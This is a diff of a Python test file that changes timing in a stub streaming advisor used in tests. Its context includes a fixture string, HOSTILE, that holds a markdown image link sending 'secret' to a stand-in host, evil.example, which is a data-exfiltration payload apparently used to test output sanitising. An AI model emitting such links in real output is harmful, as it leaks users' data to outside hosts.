@@ -24,6 +24,7 @@ if TYPE_CHECKING:
 
     Open = Callable[..., Visitor]
 
+_SLOW = 60  # pieces; three seconds
 QUESTION = "What does a senior AI engineer earn?"
 HOSTILE = (
     "![x](https://evil.example/?d=secret) [here](https://evil.example) <https://evil.example> www.evil.example "
@@ -33,7 +34,7 @@ HOSTILE = (
 
 
 class Slow(Advisor):
-    """The advisor, writing a piece every 50 ms."""
+    """The advisor, taking its time over the first pieces of an answer."""
 
     def chat(self, history: History = (), *, within: Within = None) -> SlowChat:
         return SlowChat(self, list(history), within)
@@ -54,7 +55,7 @@ class SlowReply:
         for number, piece in enumerate(re.findall(r"\S+\s*", self.answer.text)):
             if self.fails and number == 5:
                 raise RuntimeError("the model has gone")
-            time.sleep(0.05)
+            time.sleep(0.05 if number < _SLOW else 0)
             yield piece
 
 
